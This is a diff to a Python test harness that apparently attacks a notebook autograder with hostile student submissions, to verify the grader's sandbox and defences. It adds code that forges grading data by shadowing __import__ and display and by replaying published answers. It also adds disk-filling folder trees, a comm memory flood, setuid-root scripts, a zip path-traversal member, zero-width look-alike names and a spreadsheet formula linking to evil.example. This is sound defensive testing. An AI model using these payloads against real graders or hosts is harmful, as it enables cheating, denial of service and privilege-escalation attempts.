@@ -45,6 +45,7 @@ import os
 import platform
 import re
 import shutil
+import stat
 import subprocess
 import sys
 import textwrap
@@ -58,6 +59,8 @@ from pathlib import Path
 
 import nbformat
 import psutil
+
+from course_utils.contract import PROBE_MIME
 
 ROOT = Path(__file__).resolve().parent.parent
 STUDENT = ROOT / "notebooks" / "student"
@@ -280,6 +283,22 @@ class Submission:
     writer: Callable[[Path], None] | None = None  # writes a special file instead
     token: str | None = None  # a part of its report name (names get neutralised)
     absent: tuple[str, ...] = ()  # texts its report rows must not contain
+    suffix: str = ".ipynb"  # its file's suffix (``.py``, ``.zip``, ``.html``...)
+    member: str | None = None  # in a ``.zip``: the file inside it this row grades
+    shown: str | None = None  # its name in the report, when not the file's own
+    writes: bool = True  # False: another submission writes its file (a zip's)
+
+    @property
+    def file_name(self) -> str:
+        """Its file's path inside the submissions folder."""
+        return self.name + self.suffix
+
+    @property
+    def report_name(self) -> str:
+        """Its name in the report's ``submission`` column."""
+        if self.shown is not None:
+            return self.shown
+        return self.file_name + (f"/{self.member}" if self.member else "")
 
 
 def every(status: str, notebook: str = CARTPOLE) -> dict[str, str]:
@@ -524,7 +543,25 @@ CATEGORIES = {
     "system-file-link": "a link to a system file as a submission",
     "large-junk": "60 MB of random bytes",
     "large-json": "40 MB of invalid JSON",
+    "replayed-payload": "answers replayed from the published cases (a lookup table "
+    "of the reference's outputs on the notebook's fixed cases)",
+    "reference-call": "a reference function called by a name built at run time",
+    "shadowed-names": "__import__, display and checks shadowed to hand over a payload "
+    "recorded from the published solution",
+    "long-names": "a 1 MB identifier and a 1 MB markdown heading",
+    "many-cells": "100,000 tiny markdown cells",
+    "widget-flood": "a comm sending 300 messages of 1 MB to the grader's worker",
+    "deep-trees": "a 10,000-deep folder tree and a 100 MB file in every writable "
+    "folder (the socket folder found from the connection file)",
+    "setuid-files": "a setuid-root file in every writable folder",
+    "look-alike-names": "two names that differ only by a zero-width space",
+    "non-notebook": "an HTML and a PDF export, a plain .py, a jupytext .py, a .zip of "
+    "two notebooks, a .zip with a ../ member",
 }
+# A submission's time when its attack aims at the grader's own work (reading,
+# recognising, preparing): a notebook 01 with Exercise 5 left as its stub takes
+# 12-20 s on a busy 2-core machine.
+TIME_BOUND_S = 90
 # The side-effect checks (see check_side_effects), by what a failure would mean.
 EFFECTS = {
     "submissions": "the other submissions are unchanged",
@@ -537,10 +574,17 @@ EFFECTS = {
     "memory": "no process of the run went over the memory cap",
     "grader": "the grader finished (exit 0, every submission graded)",
     "report": "report.csv is well-formed, neutral and unchanged after the exit",
-    "console": "the grader's console output has no control character",
+    "console": "the grader's console output has no control or invisible character",
     "reading": "large files do not push the grader's memory to a multiple of theirs",
+    "setuid": "no setuid file owned by uid 0 created during the run under the host's "
+    "temporary folders (the run's TMPDIR, /tmp, /dev/shm, $XDG_RUNTIME_DIR)",
+    "temp": "no course-grade-* or course-view-* folder left in the grader's "
+    "temporary folder (the run's TMPDIR) after it exits",
+    "time": f"the submission was graded within {TIME_BOUND_S} s (its console line)",
 }
 MEMORY_CAP_MB = 2048  # the grader's default --memory-mb
+# The grader's worker (outside the sandbox, in the cap) keeps 8 MB of comm state.
+WORKER_LIMIT_MB = 300
 FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
 # As written in a notebook's source: Python escapes, not the characters themselves.
 ESCAPES_SOURCE = r"\x1b[2J\x1b]0;pwned\x07\x1b]8;;http://evil.example\x1b\\link\r\n"
@@ -572,6 +616,12 @@ class Context:
     @property
     def home(self) -> Path:
         return self.out / "home"
+
+    @property
+    def scratch(self) -> Path:
+        """The grader's temporary folder (its TMPDIR; short: Unix socket paths are
+        limited)."""
+        return Path(f"/tmp/gc-{self.marker[-8:]}")
 
 
 def code(template: str, **values) -> str:
@@ -931,6 +981,154 @@ SNEAKY = f"""
 # folder; the report names it by its path, which starts with "=").
 NAME_ATTACK = FORMULA + "\x1b[2J\x1b]0;pwned\x07\r\n+cmd"
 
+# Issue 21, item 9: the grader's new defences (challenges, the probe as a kernel
+# request, the probe-only course_utils, host cleanliness, intake, names).
+REPLAYED_RETURNS = """\
+    # The reference's outputs on the published (fixed) cases, by their inputs.
+    ANSWERS = __ANSWERS__
+    key = repr((tuple(float(r) for r in rewards), float(gamma), float(bootstrap)))
+    return np.array(ANSWERS.get(key, [0.0] * len(rewards)))"""
+REFERENCE_CALL = """\
+    import importlib
+
+    # The course's reference, by a name no static scan can read.
+    module = importlib.import_module("course_utils.checks." + "cartpole")
+    return getattr(module, "refer" + "ence_normalise")(values)"""
+SHADOWED_NAMES = """
+    import builtins as _builtins
+
+    from IPython.display import display as _display
+
+    # The published solution's probe data for Exercise 2, recorded beforehand: every
+    # name a check cell looks up (the checks module, display, __import__) hands it
+    # over instead of running the student's function.
+    _RECORDED = {__MIME__: __PAYLOAD__, "text/plain": "(check data for the grader)"}
+
+
+    def _hand_over(*args, **kwargs):
+        _display(_RECORDED, raw=True)
+
+
+    class _Checks:
+        def __getattr__(self, name):
+            return _hand_over
+
+
+    def display(*objects, **kwargs):
+        _hand_over()
+        return _display(*objects, **kwargs)
+
+
+    def __import__(name, *args, **kwargs):
+        if name.startswith("course_utils"):
+            return _Checks()
+        return _builtins.__import__(name, *args, **kwargs)
+
+
+    checks = _Checks()
+"""
+WIDGET_FLOOD = """
+    from ipykernel.comm import Comm
+
+    # About 300 MB of widget state sent to the grader's worker, 1 MB a message.
+    comm = Comm(target_name="flood", data={})
+    chunk = "x" * 2**20
+    for index in range(300):
+        comm.send({"method": "update", "state": {f"k{index}": chunk},
+                   "buffer_paths": []})
+"""
+# Every folder a kernel may write to: its working folder, HOME, the temporary
+# folders and the socket folder (its connection file's, from ipykernel or the
+# kernel's command line). /tmp and /dev/shm: only names starting with the marker.
+WRITABLE_PLACES = """
+    import os
+    import tempfile
+
+    MARKER = __MARKER__
+
+
+    def socket_folders():
+        found = set()
+        try:
+            from ipykernel.connect import get_connection_file
+
+            found.add(os.path.dirname(get_connection_file()))
+        except Exception:
+            pass
+        try:
+            with open("/proc/self/cmdline", "rb") as cmdline:
+                words = cmdline.read().decode(errors="replace").split("\\0")
+            found |= {os.path.dirname(os.path.abspath(word)) for word in words
+                      if word.endswith(".json")}
+        except OSError:
+            pass
+        return found
+
+
+    PLACES = sorted({os.getcwd(), os.path.expanduser("~"), tempfile.gettempdir(),
+                     __TMP__, __SHM__, *socket_folders()})
+"""
+DEEP_TREES = """
+    # A 10,000-deep folder tree and a 100 MB file in each (the socket folder's
+    # tmpfs is full at 16 MB).
+    made = {}
+    for place in PLACES:
+        depth = written = 0
+        try:
+            handle = os.open(place, os.O_RDONLY | os.O_DIRECTORY)
+            name = MARKER + "-deep"
+            for depth in range(1, 10_001):
+                os.mkdir(name, dir_fd=handle)
+                inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=handle)
+                os.close(handle)
+                handle, name = inner, "d"
+            os.close(handle)
+        except OSError:
+            pass
+        try:
+            with open(os.path.join(place, MARKER + "-big"), "wb") as big:
+                while written < 100 * 2**20:
+                    written += big.write(b"x" * 2**20)
+        except OSError:
+            pass
+        made[place] = (depth, written // 2**20)
+    print(made)
+"""
+SETUID_FILES = """
+    # A setuid-root shell script in each (the sandbox's root is the host's nobody).
+    made = []
+    for place in PLACES:
+        path = os.path.join(place, MARKER + "-suid")
+        try:
+            with open(path, "w") as script:
+                script.write("#!/bin/sh\\nid\\n")
+            os.chmod(path, 0o4755)
+            try:
+                os.chown(path, 0, 0)
+            except OSError:
+                pass
+            made.append((path, oct(os.stat(path).st_mode), os.stat(path).st_uid))
+        except OSError:
+            pass
+    print(made)
+"""
+PLAIN_SCRIPT = '''\
+"""My solutions, copied out of the notebook."""
+import numpy as np
+
+
+def discounted_returns(rewards, gamma, bootstrap=0.0):
+    out, running = np.zeros(len(rewards)), bootstrap
+    for t in reversed(range(len(rewards))):
+        running = rewards[t] + gamma * running
+        out[t] = running
+    return out
+'''
+HTML_EXPORT = ("<!DOCTYPE html>\n<html><head><title>01_actor_critic_cartpole"
+               "</title></head><body><h1>Actor-critic</h1></body></html>\n")
+PDF_EXPORT = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n"
+LOOKALIKE = "\u200b"  # a zero-width space: two names that print the same
+
 
 def check_cells(notebook_name: str, answers, edit, numbers) -> dict[str, int]:
     """Indices of the check cells of some exercises in a built submission."""
@@ -970,6 +1168,94 @@ def link_to(target: str):
 
     def write(path: Path) -> None:
         os.symlink(target, path)
+
+    return write
+
+
+def replayed_answers() -> dict[str, list[float]]:
+    """The reference's returns on the published (fixed) cases of Exercise 2, keyed
+    by their inputs: what a submission can record from the notebook."""
+    from course_utils.checks import cartpole
+
+    table = {}
+    for rewards, gamma, bootstrap in cartpole._returns_cases():
+        key = repr((tuple(float(r) for r in rewards), float(gamma), float(bootstrap)))
+        table[key] = cartpole.reference_returns(rewards, gamma, bootstrap).tolist()
+    return table
+
+
+def recorded_payload() -> str:
+    """The probe data of Exercise 2's check on the published solution (fixed cases),
+    as the grader's probe would hand it over."""
+    from course_utils.checks import cartpole, core, plain
+
+    return plain.dumps(core.run_probe(cartpole.RETURNS, cartpole.reference_returns))
+
+
+def insert_before(text: str, *cells):
+    """An edit inserting cells before the first cell holding ``text``."""
+
+    def edit(notebook):
+        at = index_of(notebook.cells, text)
+        notebook.cells[at:at] = list(cells)
+
+    return edit
+
+
+def many_markdown_cells(count: int, before: str):
+    """An edit inserting ``count`` tiny markdown cells before ``before``."""
+
+    def edit(notebook):
+        at = index_of(notebook.cells, before)
+        # Built as nbformat.v4.new_markdown_cell would, without its validation.
+        notebook.cells[at:at] = [
+            nbformat.NotebookNode(cell_type="markdown", id=f"note-{i}", metadata={},
+                                  source=f"Note {i}.")
+            for i in range(count)
+        ]
+
+    return edit
+
+
+def notebook_text(notebook) -> str:
+    """A notebook's JSON as nbformat writes it, without its validation (which takes
+    tens of seconds on 100,000 cells)."""
+    return json.dumps(notebook, indent=1, sort_keys=True, ensure_ascii=False) + "\n"
+
+
+def percent_script(notebook_name: str, answers, edit=None):
+    """A writer of a jupytext percent script (``.py``) of a built notebook."""
+
+    def write(path: Path) -> None:
+        import jupytext
+
+        notebook = build_notebook(notebook_name, answers, edit)
+        path.write_text(jupytext.writes(notebook, fmt="py:percent"), encoding="utf-8")
+
+    return write
+
+
+def zip_of(members: dict[str, tuple[str, dict]]):
+    """A writer of a ``.zip`` holding built notebooks: ``{member: (notebook name,
+    answers)}``."""
+
+    def write(path: Path) -> None:
+        import zipfile
+
+        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+            for member, (notebook_name, answers) in members.items():
+                archive.writestr(member, notebook_text(
+                    build_notebook(notebook_name, answers, None)))
+
+    return write
+
+
+def file_of(content: str | bytes):
+    """A writer of a file holding ``content``."""
+
+    def write(path: Path) -> None:
+        data = content.encode("utf-8") if isinstance(content, str) else content
+        path.write_bytes(data)
 
     return write
 
@@ -1019,9 +1305,11 @@ def hostile_class(context: Context) -> list[Submission]:
                 "check-internals;monkeypatch", verdicts_only,
                 answers=c01_answers(**{"3": normalise_wrong}),
                 edit=prepend_to_exercise("3", code(PATCH_CORE))),
-        hostile("input_transformer", "input-transformer", {**BASE, "2": E},
-                "the check cell is rewritten into a print: it hands over no data "
-                "(a printed ✔ counts for nothing)",
+        hostile("input_transformer", "input-transformer", {**BASE, "2": F},
+                "the check is no cell: it runs as a probe request to the kernel's "
+                "own handler, which no input transformer sees, so the probe calls "
+                "the wrong function and the judge names it (before the probe "
+                "requests: the rewritten print handed over no data, an error)",
                 "ipython-hooks", verdicts_only,
                 answers=c01_answers(**{"2": returns_wrong}),
                 edit=append_to_exercise("2", code(INPUT_TRANSFORMER))),
@@ -1030,9 +1318,12 @@ def hostile_class(context: Context) -> list[Submission]:
                 "submission's): the judge reads the probe's real (wrong) data",
                 "outside-files", ("grader", "submissions"),
                 answers=events_answers, edit=final_cell(events_code)),
-        hostile("forged_probe", "forged-probe", {**BASE, "3": E},
-                "only the check cell's probe output counts, and it has two (the real "
-                "one and the forged one): refused as forged",
+        hostile("forged_probe", "forged-probe", {**BASE, "3": F},
+                "the check is a probe request, not a cell: no post_run_cell hook "
+                "runs after it, so its output holds the real probe data alone, and "
+                "the judge finds the wrong answer (the forged display in the "
+                "exercise's own cell counts for nothing; before the probe requests "
+                "the hook's second output made the check an error, 'forged')",
                 "check-internals;ipython-hooks", verdicts_only,
                 answers=c01_answers(**{"3": normalise_wrong}),
                 edit=append_to_exercise("3", code(FORGED_PROBE))),
@@ -1095,6 +1386,111 @@ def hostile_class(context: Context) -> list[Submission]:
                    effects=("reading",), writer=truncated_json(40 * 2**20),
                    fragments={"": "not valid JSON (line 1, column"},
                    absent=("xxxx",)),
+        *new_attacks(context),
+    ]
+
+
+def new_attacks(context: Context) -> list[Submission]:
+    """The attacks on the grader's newer defences (issue 21, item 9): replayed and
+    recorded answers, the references, shadowed names, huge and many cells, a comm
+    flood, the host's folders, look-alike names and files that are not notebooks."""
+    marker, verdicts_only = context.marker, ("grader",)
+    replayed = [code(REPLAYED_RETURNS, answers=replayed_answers())]
+    shadowing = nbformat.v4.new_code_cell(code(
+        SHADOWED_NAMES, mime=PROBE_MIME, payload=recorded_payload()))
+    places = code(WRITABLE_PLACES, marker=marker, tmp="/tmp", shm="/dev/shm")
+    long_name = "a_long_name_" + "x" * (2**20 - 12)
+    heading = "## " + "A heading that never ends " * (2**20 // 26)
+    zipped = {"a.ipynb": (CARTPOLE, c01_answers()), "b.ipynb": (CARTPOLE, {})}
+    non_notebook = dict(category="non-notebook", effects=("grader", "report"))
+    return [
+        hostile("replayed_payload", "replayed-payload", {**BASE, "2": F},
+                "the table holds the published cases' answers; the check runs on "
+                "cases drawn afresh from the run's secret, which it does not hold",
+                "", verdicts_only,
+                answers=c01_answers(**{"2": replayed})),
+        hostile("reference_call", "reference-call", {**BASE, "3": F},
+                "the probe-only course_utils in the sandbox has no reference: the "
+                "call raises, and the check reports it",
+                "", verdicts_only, answers=c01_answers(**{"3": [REFERENCE_CALL]}),
+                fragments={"3": "not available while grading"}),
+        hostile("shadowed_names_stub", "shadowed-names", {**BASE, "2": NA},
+                "the probe runs as the kernel's own request handler, which looks up "
+                "none of the student's names: it calls the stub, so the recorded "
+                "payload never reaches the grader (and a cell raising its stub is "
+                "not attempted whatever a probe reports)",
+                "check-internals", verdicts_only,
+                answers={k: v for k, v in c01_answers().items() if k != "2"},
+                edit=insert_before("### Exercise 2:", shadowing)),
+        hostile("shadowed_names_wrong", "shadowed-names", {**BASE, "2": F},
+                "the probe calls the student's own function (it returns None) on "
+                "drawn cases, whatever the shadowed names hand over",
+                "check-internals", verdicts_only,
+                answers=c01_answers(**{"2": ["return None"]}),
+                edit=insert_before("### Exercise 2:", shadowing),
+                fragments={"2": "None"}),
+        hostile("long_names", "long-names", BASE,
+                "a 1 MB identifier and a 1 MB heading are read in linear time (the "
+                "cell is flagged, not scanned) and run as any cell",
+                "unscanned", ("grader", "time", "report"),
+                edit=insert_before("### Exercise 1:",
+                                   nbformat.v4.new_markdown_cell(heading),
+                                   nbformat.v4.new_code_cell(f"{long_name} = 1"))),
+        hostile("many_cells", "many-cells", BASE,
+                "100,000 markdown cells are read, recognised and skipped by the "
+                "kernel's run in linear time",
+                "", ("grader", "time", "report"),
+                edit=many_markdown_cells(100_000, "### Exercise 3:")),
+        hostile("widget_flood", "widget-flood", BASE,
+                "the attack runs after the last check; the worker keeps 8 MB of "
+                "comm state and drops the rest",
+                "ipython-hooks", ("grader", "memory"),
+                edit=final_cell(code(WIDGET_FLOOD))),
+        hostile("deep_trees", "deep-trees", BASE,
+                "the attack runs after the last check; every folder it can write is "
+                "a tmpfs of the sandbox (the socket folder's 16 MB, in the worker's "
+                "mount namespace), gone with it",
+                "ipython-hooks;outside-files", ("grader", "planted", "temp", "home"),
+                edit=final_cell(places + "\n\n\n" + code(DEEP_TREES))),
+        hostile("setuid_files", "setuid-files", BASE,
+                "the attack runs after the last check; the sandbox's root is the "
+                "host's nobody and its folders are nosuid tmpfs, gone with it",
+                "ipython-hooks;outside-files", ("setuid", "planted", "temp"),
+                edit=final_cell(places + "\n\n\n" + code(SETUID_FILES))),
+        hostile("lookalike", "look-alike-names", BASE,
+                "a right submission; its name looks like the next one's",
+                "look-alike-name", ("report", "console")),
+        hostile(f"look{LOOKALIKE}alike", "look-alike-names", BASE,
+                "a right submission whose name holds a zero-width space: graded, "
+                "flagged, its name shown escaped",
+                "look-alike-name", ("report", "console"),
+                shown=f"{HOSTILE}/look\\u200balike.ipynb", absent=(LOOKALIKE,)),
+        Submission(f"{HOSTILE}/export", None, {"": "invalid"}, suffix=".html",
+                   why="an HTML export: the student is told to hand in the .ipynb",
+                   writer=file_of(HTML_EXPORT), fragments={"": "an HTML export"},
+                   **non_notebook),
+        Submission(f"{HOSTILE}/export", None, {"": "invalid"}, suffix=".pdf",
+                   why="a PDF export: the student is told to hand in the .ipynb",
+                   writer=file_of(PDF_EXPORT), fragments={"": "a PDF export"},
+                   **non_notebook),
+        Submission(f"{HOSTILE}/solutions", None, {"": "invalid"}, suffix=".py",
+                   why="a Python script without # %% cells is not a notebook",
+                   writer=file_of(PLAIN_SCRIPT),
+                   fragments={"": "a Python script, not a notebook"}, **non_notebook),
+        Submission(f"{HOSTILE}/percent", CARTPOLE, BASE, c01_answers(), suffix=".py",
+                   why="a jupytext percent script of the notebook: graded as it",
+                   writer=percent_script(CARTPOLE, c01_answers()), **non_notebook),
+        Submission(f"{HOSTILE}/two", CARTPOLE, BASE, c01_answers(), suffix=".zip",
+                   member="a.ipynb", writer=zip_of(zipped),
+                   why="each notebook of a .zip is graded as its own submission",
+                   **non_notebook),
+        Submission(f"{HOSTILE}/two", CARTPOLE, every(NA), {}, suffix=".zip",
+                   member="b.ipynb", writes=False,
+                   why="the .zip's second notebook, untouched", **non_notebook),
+        Submission(f"{HOSTILE}/climbs", None, {"": "invalid"}, suffix=".zip",
+                   writer=zip_of({"../escape.ipynb": (CARTPOLE, c01_answers())}),
+                   why="a member out of the archive (..): the zip is refused whole",
+                   fragments={"": "outside the archive"}, **non_notebook),
     ]
 
 
@@ -1129,14 +1525,20 @@ def write_class(folder: Path, submissions: list[Submission]) -> None:
     """Write every submission under ``folder`` (created)."""
     folder.mkdir(parents=True, exist_ok=False)
     for sub in submissions:
-        path = folder / f"{sub.name}.ipynb"
+        if not sub.writes:
+            continue
+        path = folder / sub.file_name
         path.parent.mkdir(parents=True, exist_ok=True)
         if sub.writer is not None:
             sub.writer(path)
         elif sub.raw is not None:
             path.write_text(sub.raw, encoding="utf-8")
         else:
-            nbformat.write(build_notebook(sub.notebook, sub.answers, sub.edit), path)
+            notebook = build_notebook(sub.notebook, sub.answers, sub.edit)
+            if len(notebook.cells) > 10_000:  # nbformat would validate every cell
+                path.write_text(notebook_text(notebook), encoding="utf-8")
+            else:
+                nbformat.write(notebook, path)
 
 
 def rows_of(sub: Submission, rows: list[dict]) -> dict[str, dict]:
@@ -1144,7 +1546,7 @@ def rows_of(sub: Submission, rows: list[dict]) -> dict[str, dict]:
     found = {}
     for row in rows:
         named = (sub.token in row["submission"] if sub.token
-                 else row["submission"] == f"{sub.name}.ipynb")
+                 else row["submission"] == sub.report_name)
         if named:
             number = row["exercise"].split(":")[0].replace("Exercise ", "").strip()
             found[number] = row
@@ -1207,6 +1609,30 @@ def digest(path: Path) -> str:
     return sha.hexdigest()
 
 
+def walk(top, max_depth: int = 200):
+    """``os.walk`` (top-down, errors ignored, links not followed) without recursion
+    and at most ``max_depth`` folders deep: a submission's 10,000-deep tree neither
+    exhausts Python's recursion nor takes the run's time."""
+    stack = [(str(top), 0)]
+    while stack:
+        where, depth = stack.pop()
+        folders, files = [], []
+        try:
+            with os.scandir(where) as entries:
+                for entry in entries:
+                    try:
+                        is_folder = entry.is_dir(follow_symlinks=False)
+                    except OSError:
+                        is_folder = False
+                    (folders if is_folder else files).append(entry.name)
+        except OSError:
+            continue
+        yield where, folders, files
+        if depth < max_depth:
+            stack += [(os.path.join(where, name), depth + 1)
+                      for name in reversed(folders)]
+
+
 def tree_state(folder: Path, hashed=lambda path: True, skip=()) -> dict[str, str]:
     """Every file and link under a folder, with what identifies its content.
 
@@ -1220,7 +1646,7 @@ def tree_state(folder: Path, hashed=lambda path: True, skip=()) -> dict[str, str
         ``{relative path: "sha256 ..." | "size mtime" | "link -> target"}``.
     """
     state = {}
-    for where, folders, files in os.walk(folder):
+    for where, folders, files in walk(folder):
         folders[:] = [name for name in folders if name not in skip]
         for name in files + [f for f in folders if os.path.islink(Path(where, f))]:
             path = Path(where, name)
@@ -1301,18 +1727,76 @@ def differences(before: dict, after: dict) -> dict[str, list[str]]:
 
 
 def planted_files(context: Context) -> list[Path]:
-    """Files named after the run's marker, where the attacks try to put them."""
+    """Files named after the run's marker, where the attacks try to put them (the
+    shared temporary folders: only their top level)."""
+    shared = [Path("/tmp"), Path("/dev/shm")]
     places = [ROOT / "course_utils", context.home, *site_packages(),
-              Path(os.path.expanduser("~/.ipython")), Path("/tmp")]
+              Path(os.path.expanduser("~/.ipython")), context.scratch, *shared]
     found = []
     for place in places:
-        depth_limited = place == Path("/tmp")
-        for where, folders, files in os.walk(place):
-            if depth_limited:
-                folders[:] = []
+        for where, folders, files in walk(place, 0 if place in shared else 200):
             found += [Path(where, name) for name in files + folders
                       if context.marker in name]
     return sorted(set(found))
+
+
+def temp_folders() -> list[Path]:
+    """The host's temporary folders a setuid file could be left in."""
+    import tempfile
+
+    places = [Path(tempfile.gettempdir()), Path("/tmp"), Path("/dev/shm")]
+    if os.environ.get("XDG_RUNTIME_DIR"):
+        places.append(Path(os.environ["XDG_RUNTIME_DIR"]))
+    return sorted({place.resolve() for place in places if place.is_dir()})
+
+
+def setuid_files(context: Context, since: float) -> list[str]:
+    """Setuid files owned by uid 0, changed since ``since``, in the run's TMPDIR (any
+    depth) or named after its marker in the host's temporary folders (6 folders
+    deep: other programs' files there are theirs)."""
+    found = []
+    for place in [context.scratch, *temp_folders()]:
+        ours = place == context.scratch
+        for where, _, files in walk(place, 200 if ours else 6):
+            for name in files:
+                path = os.path.join(where, name)
+                try:
+                    info = os.lstat(path)
+                except OSError:
+                    continue
+                if (stat.S_ISREG(info.st_mode) and info.st_mode & stat.S_ISUID
+                        and info.st_uid == 0 and info.st_ctime >= since
+                        and (ours or context.marker in path)):
+                    found.append(f"{printable(path)} (mode {info.st_mode:o})")
+    return sorted(set(found))
+
+
+def grader_leftovers(context: Context) -> list[str]:
+    """The grader's temporary folders left after it exited."""
+    try:
+        names = sorted(os.listdir(context.scratch))
+    except OSError:
+        return []
+    return [f"{printable(str(context.scratch / name))} left" for name in names
+            if name.startswith(("course-grade-", "course-view-"))]
+
+
+def graded_seconds(console: str) -> dict[str, float]:
+    """Each submission's time from the grader's progress lines (``[3/19] name:
+    ... (18 s)``), by its name as printed."""
+    found = {}
+    for line in console.splitlines():
+        matched = PROGRESS.match(line)
+        if matched:
+            found[matched["name"]] = float(matched["seconds"])
+    return found
+
+
+PROGRESS = re.compile(r"\[\d+/\d+\] (?P<name>.+?): .* \((?P<seconds>\d+) s\)$")
+# Characters that draw nothing or turn text around (zero-width, bidi): a name
+# printed with one could pass for another's.
+INVISIBLE = re.compile("[\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069"
+                       "\ufeff]")
 
 
 def run_processes(context: Context, exclude: set[int]) -> list[psutil.Process]:
@@ -1340,6 +1824,7 @@ class Watch:
 
     grader_peak_mb: float = 0.0  # the grader process's own peak (VmHWM)
     marker_peak_mb: float = 0.0  # the largest total resident memory of marked processes
+    worker_peak_mb: float = 0.0  # the largest resident memory of a grader's worker
     done: threading.Event = field(default_factory=threading.Event)
 
 
@@ -1355,15 +1840,23 @@ def high_water_mb(pid: int) -> float:
     return 0.0
 
 
-def monitor(pid: int, marker: str, watch: Watch) -> None:
-    """Sample the grader's peak memory and the marked processes' memory."""
+WORKER = "instructor.grading.worker"  # in a grader's worker's command line
+
+
+def monitor(pid: int, marker: str, watch: Watch, scratch: str) -> None:
+    """Sample the grader's peak memory, the marked processes' memory and that of
+    the grader's workers (their job files are in ``scratch``)."""
     while not watch.done.is_set():
         watch.grader_peak_mb = max(watch.grader_peak_mb, high_water_mb(pid))
         total = 0
         for process in psutil.process_iter(["cmdline", "memory_info"]):
             try:
-                if marker in " ".join(process.info["cmdline"] or ()):
+                command = " ".join(process.info["cmdline"] or ())
+                if marker in command:
                     total += process.info["memory_info"].rss
+                if WORKER in command and scratch in command:
+                    watch.worker_peak_mb = max(watch.worker_peak_mb,
+                                               process.info["memory_info"].rss / 2**20)
             except (psutil.Error, TypeError, AttributeError):
                 continue
         watch.marker_peak_mb = max(watch.marker_peak_mb, total / 2**20)
@@ -1381,15 +1874,15 @@ class GraderRun:
 
 
 def run_grader(command: list[str], env: dict[str, str], marker: str,
-               log: Path | None = None) -> GraderRun:
+               log: Path | None = None, scratch: str = "/") -> GraderRun:
     """Run the grader, echo its console (control characters shown as ``?``), keep
     its raw output, and watch its memory and the marked processes'."""
     start = time.perf_counter()
     process = subprocess.Popen(command, cwd=ROOT, env=env, stdout=subprocess.PIPE,
                                stderr=subprocess.STDOUT)
     watch = Watch()
-    thread = threading.Thread(target=monitor, args=(process.pid, marker, watch),
-                              daemon=True)
+    thread = threading.Thread(target=monitor,
+                              args=(process.pid, marker, watch, scratch), daemon=True)
     thread.start()
     console = bytearray()
     for line in process.stdout:
@@ -1459,9 +1952,12 @@ def reading_memory(context: Context, extra: list[str]) -> dict[str, float]:
 
 
 def check_side_effects(context, before, run: GraderRun, report_hash, exclude,
-                       submissions, rows, hostile_run: bool, extra: list[str]):
+                       submissions, rows, hostile_run: bool, extra: list[str],
+                       started: float = 0.0):
     """Every side-effect check: ``{check: [problems]}`` (empty lists when fine)."""
     found: dict[str, list[str]] = {check: [] for check in EFFECTS}
+    found["temp"] += grader_leftovers(context)
+    found["setuid"] += setuid_files(context, started)
     for check, changes in differences(before, snapshot(watched(context))).items():
         found[check] += changes
     found["planted"] += [printable(str(path)) for path in planted_files(context)]
@@ -1472,6 +1968,10 @@ def check_side_effects(context, before, run: GraderRun, report_hash, exclude,
         found["memory"].append(f"marked processes reached "
                                f"{run.watch.marker_peak_mb:.0f} MB, over the "
                                f"{MEMORY_CAP_MB} MB cap")
+    if run.watch.worker_peak_mb > WORKER_LIMIT_MB:
+        found["memory"].append(f"a grader's worker reached "
+                               f"{run.watch.worker_peak_mb:.0f} MB, over "
+                               f"{WORKER_LIMIT_MB} MB")
     if run.code != 0:
         found["grader"].append(f"the grader exited with {run.code}")
     names = {sub.name for sub in submissions if not rows_of(sub, rows)}
@@ -1485,6 +1985,17 @@ def check_side_effects(context, before, run: GraderRun, report_hash, exclude,
     bad = sorted({f"\\x{ord(c):02x}" for c in CONTROL.findall(text)})
     if bad:
         found["console"].append(f"control characters printed: {' '.join(bad)}")
+    bad = sorted({f"U+{ord(c):04X}" for c in INVISIBLE.findall(text)})
+    if bad:
+        found["console"].append(f"invisible characters printed: {' '.join(bad)}")
+    seconds = graded_seconds(printable(text))
+    for sub in submissions:
+        if "time" in sub.effects:
+            took = seconds.get(printable(sub.report_name))
+            if took is None or took > TIME_BOUND_S:
+                found["time"].append(f"{printable(sub.report_name)}: "
+                                     f"{'no time printed' if took is None else took}"
+                                     f" s")
     if hostile_run:
         peaks = reading_memory(context, extra)
         rise = peaks["large"] - peaks["small"]
@@ -1506,9 +2017,15 @@ def clean_up(context: Context, exclude: set[int]) -> list[str]:
             done.append(f"killed pid {process.pid}")
         except psutil.Error:
             continue
+    from instructor.grading.sandbox import remove_tree  # any depth, no recursion
+
     for path in planted_files(context):
         if path.is_dir() and not path.is_symlink():
-            shutil.rmtree(path, ignore_errors=True)
+            try:
+                remove_tree(path)
+            except OSError as error:
+                done.append(f"could not remove {printable(str(path))}: {error}")
+                continue
         else:
             path.unlink(missing_ok=True)
         done.append(f"removed {printable(str(path))}")
@@ -1581,7 +2098,7 @@ def main(argv: list[str] | None = None) -> int:
     # A temporary folder of the run's own (short: Unix socket paths are limited),
     # where the grader's job folders go: attacks looking for them (without the
     # sandbox) then find this run's only.
-    scratch = Path(f"/tmp/gc-{context.marker[-8:]}")
+    scratch = context.scratch
     scratch.mkdir()
     env = {**os.environ, "HOME": str(context.home), RUN_VARIABLE: context.marker,
            "TMPDIR": str(scratch)}
@@ -1591,7 +2108,9 @@ def main(argv: list[str] | None = None) -> int:
     print("$", " ".join(command), flush=True)
     # This benchmark and what started it (a `timeout`, make) name the run's folder.
     exclude = {os.getpid(), *(parent.pid for parent in psutil.Process().parents())}
-    run = run_grader(command, env, context.marker, log=context.out / "grader.log")
+    started = time.time()
+    run = run_grader(command, env, context.marker, log=context.out / "grader.log",
+                     scratch=str(scratch))
     report_hash = digest(context.report) if context.report.exists() else ""
     time.sleep(6)  # the sleeper attack rewrites the report 2 s after it appears
     rows = []
@@ -1599,9 +2118,15 @@ def main(argv: list[str] | None = None) -> int:
         with open(context.report, newline="", encoding="utf-8") as handle:
             rows = list(csv.DictReader(handle))
     found = check_side_effects(context, before, run, report_hash, exclude,
-                               submissions, rows, args.section != "honest", extra)
+                               submissions, rows, args.section != "honest", extra,
+                               started)
     cleaned = clean_up(context, exclude)
-    shutil.rmtree(scratch, ignore_errors=True)
+    from instructor.grading.sandbox import remove_tree
+
+    try:
+        remove_tree(scratch)
+    except OSError as error:
+        cleaned.append(f"could not remove {scratch}: {error}")
     problems = compare(submissions, rows)
     verdicts = sum(len(sub.expected) for sub in submissions)
     counts: dict[str, int] = {}
